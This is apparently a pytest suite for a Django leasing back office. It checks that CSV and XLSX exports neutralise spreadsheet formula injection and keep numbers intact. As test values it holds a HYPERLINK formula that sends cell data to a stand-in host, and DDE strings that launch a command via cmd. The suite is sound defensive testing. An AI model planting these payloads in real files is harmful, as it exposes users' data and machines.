"""Spreadsheet safety of exports (OWASP CSV injection, issue 9): a CSV cell whose text starts
with = + - @ tab or CR is neutralised with a leading ', an XLSX cell is never a formula;
numbers stay numbers. Checked on the framework with every trigger and on the real kinds."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from parklink.core import exchange as ex
from parklink.office.management.commands.export import KINDS
from tests.factories.leads import LeadFactory
from tests.factories.orgs import OrganizationFactory
from tests.factories.parks import ParkFactory, SpaceFactory

HOSTILE = '=HYPERLINK("http://x?x="&D2)'
TRIGGERS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


class Cells:
    """A kind whose text, list and object columns carry a hostile value; numbers beside."""

    name = "cells"
    sheet_names = ("单元格", "cells")
    columns = (
        ex.Column("text", "文本"),
        ex.Column("tags", "标签", many=True),
        ex.Column("obj", "对象"),
        ex.Column("n", "数"),
        ex.Column("d", "小数"),
        ex.Column("floor", "楼层"),
    )

    def __init__(self, value: str):
        self.value = value

    def import_rows(self, rows, *, report, actor):  # pragma: no cover - export only
        raise NotImplementedError

    def export_rows(self):
        yield {
            "text": self.value,
            "tags": [self.value, "普通"],
            "obj": {"k": self.value},
            "n": -5,
            "d": Decimal("-12.5"),
            "floor": "-1",
        }


def _csv_row(kind, lang="zh") -> list[str]:
    buf = io.BytesIO()
    ex.export_file([kind], "csv", buf, lang=lang)
    rows = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"))))
    return rows[1]


def _xlsx_cells(kinds, lang="zh", scope=None) -> list:
    buf = io.BytesIO()
    ex.export_file(kinds, "xlsx", buf, lang=lang, scope=scope)
    book = load_workbook(io.BytesIO(buf.getvalue()))  # not data_only: formulas would show
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("value", TRIGGERS)
def test_csv_neutralises_every_trigger_in_every_text_column(value):
    text, tags, obj, n, d, floor = _csv_row(Cells(value))
    assert text == "'" + value
    assert tags.startswith("'" + value)
    assert obj.startswith("{")  # JSON text: starts with a brace, harmless
    assert (n, d) == ("-5", "-12.5")  # negative numbers stay numbers
    assert floor == "-1"  # a text that is just a number is no formula: left alone


@pytest.mark.django_db
@pytest.mark.parametrize("value", TRIGGERS)
def test_xlsx_never_writes_a_formula_and_keeps_numbers(value):
    cells = _xlsx_cells([Cells(value)])
    assert all(c.data_type != "f" for c in cells)
    by_header = dict(zip([c.value for c in cells[:6]], cells[6:], strict=True))
    assert by_header["文本"].value == value and by_header["文本"].data_type == "s"
    assert by_header["文本"].quotePrefix  # Excel keeps it text even when edited
    assert by_header["标签"].value.startswith(value)
    assert by_header["数"].value == -5 and by_header["数"].data_type == "n"
    assert by_header["小数"].value == -12.5 and by_header["小数"].data_type == "n"


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("=A1", True),
        ("+A1", True),
        ("-A1", True),
        ("@A1", True),
        ("\tx", True),
        ("\rx", True),
        ("-1", False),
        ("+3.5", False),
        ("普通文本", False),
        ("a=b", False),
        ("", False),
    ],
)
def test_formula_text_recognition(text, formula):
    assert ex.is_formula_text(text) is formula
    assert ex.neutralise(text) == ("'" + text if formula else text)
    if formula:  # the importer reads a neutralised cell back as the text it stood for
        assert ex._csv_cell(ex.neutralise(text)) == text


def test_import_side_reports_formulas():
    assert isinstance(ex._csv_cell("=SUM(A1)"), ex.Formula)
    assert ex._csv_cell("'=SUM(A1)") == "=SUM(A1)"
    assert "formula" in ex.FORMULA_MESSAGE and "公式" in ex.FORMULA_MESSAGE


# --- the real kinds, through the back office ---------------------------------------------


@pytest.fixture
def hostile(db, agent):
    park = ParkFactory(name="=1+1园区", address="@SUM(1)", district="昌平区")
    SpaceFactory(park=park, ref="-SP+1", description=HOSTILE, floor="-1")
    OrganizationFactory(name="+危险机构", description="=cmd|' /C calc'!A0")
    return LeadFactory(
        owner=agent,
        company=HOSTILE,
        contact="@张三",
        mobile="13800001111",
        need="-需要厂房",
        districts=["=昌平区"],
    )


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_managers_xlsx_export_holds_no_live_formula(client, manager, hostile, lang):
    client.force_login(manager)
    headers = "&headers=en" if lang == "en" else ""
    resp = client.get("/office/catalogue/export/?kind=all&format=xlsx" + headers)
    assert resp.status_code == 200
    book = load_workbook(io.BytesIO(resp.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in (HOSTILE, "@张三", "-需要厂房", "=1+1园区", "@SUM(1)", "-SP+1", "+危险机构"):
        assert value in texts  # kept as text, exactly
    company = next(c for c in cells if c.value == HOSTILE)
    assert company.data_type == "s" and company.quotePrefix


@pytest.mark.parametrize("kind", ["leads", "spaces", "parks", "orgs"])
def test_managers_csv_export_holds_no_cell_a_spreadsheet_would_evaluate(
    client, manager, hostile, kind
):
    client.force_login(manager)
    resp = client.get(f"/office/catalogue/export/?kind={kind}&format=csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if ex.is_formula_text(c)]
    if kind == "leads":
        assert "'" + HOSTILE in cells and "'@张三" in cells and "'-需要厂房" in cells
    if kind == "spaces":
        assert "'-SP+1" in cells and "-1" in cells  # the floor "-1" is a number, untouched


def test_every_kind_writes_safe_cells_for_every_text_column(manager, hostile):
    """All registered kinds (parks, facts, spaces, orgs, leads, policies, leases) at once."""
    cells = _xlsx_cells(list(KINDS.values()), scope=ex.ExportScope(viewer=manager))
    assert HOSTILE in {c.value for c in cells}
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and ex.is_formula_text(c.value)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_lead_list_export_holds_no_live_formula(client, manager, hostile):
    client.force_login(manager)
    resp = client.get("/office/leads/export.xlsx")
    assert resp.status_code == 200
    book = load_workbook(io.BytesIO(resp.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    company = next(c for c in cells if c.value == HOSTILE)
    assert company.data_type == "s" and company.quotePrefix


def test_xlsx_safe_turns_a_cell_openpyxl_took_for_a_formula_back_into_text():
    from openpyxl import Workbook

    ws = Workbook().active
    cell = ws.cell(row=1, column=1, value=HOSTILE)
    assert cell.data_type == "f"  # what openpyxl does with "=…" on its own
    assert ex.xlsx_safe(cell) is cell
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
    number = ex.xlsx_safe(ws.cell(row=1, column=2, value=-3))
    assert (number.value, number.data_type) == (-3, "n")


def test_rent_grid_export_holds_no_live_formula(manager):
    from datetime import date

    from parklink.leases import selectors as lease_selectors
    from parklink.leases.exchange import grid_export
    from tests.factories.parks import BuildingFactory

    park = ParkFactory(name="=1+1园区")
    building = BuildingFactory(park=park, name="A座")
    SpaceFactory(park=park, building=building, floor="=2+2", ref="=U1")
    plans = lease_selectors.stacking_plan(park=park, on=date(2026, 6, 1), viewer=manager)
    buf = io.BytesIO()
    grid_export(plans=plans, park_name=park.name, on=date(2026, 6, 1), out=buf)
    cells = [c for ws in load_workbook(buf).worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(t.startswith("=1+1园区") for t in texts)
    assert "=2+2" in texts and any(t.startswith("=U1") for t in texts)
